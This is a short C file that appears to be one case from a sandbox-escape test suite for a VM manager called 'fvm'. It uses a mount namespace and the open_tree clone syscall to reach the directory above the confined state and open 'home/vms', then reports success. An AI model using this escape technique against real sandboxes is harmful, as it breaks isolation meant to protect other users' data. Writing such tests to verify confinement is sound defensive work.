/* Clones the mount above fvm's state, without what is mounted in it. */
#include "attack.h"
#include <libgen.h>

void attack(int n, char **word) {
    (void)n;
    (void)word;
    char home[PATH_MAX];
    snprintf(home, sizeof home, "%s", getenv("ESCAPE_HOME"));
    if (geteuid() != 0) take_namespaces(CLONE_NEWNS);
    int tree = (int)TRY(syscall(428 /* open_tree */, AT_FDCWD, dirname(home), 1 /* OPEN_TREE_CLONE */));
    TRY(openat(tree, "home/vms", O_RDONLY | O_DIRECTORY));
    reached();
}
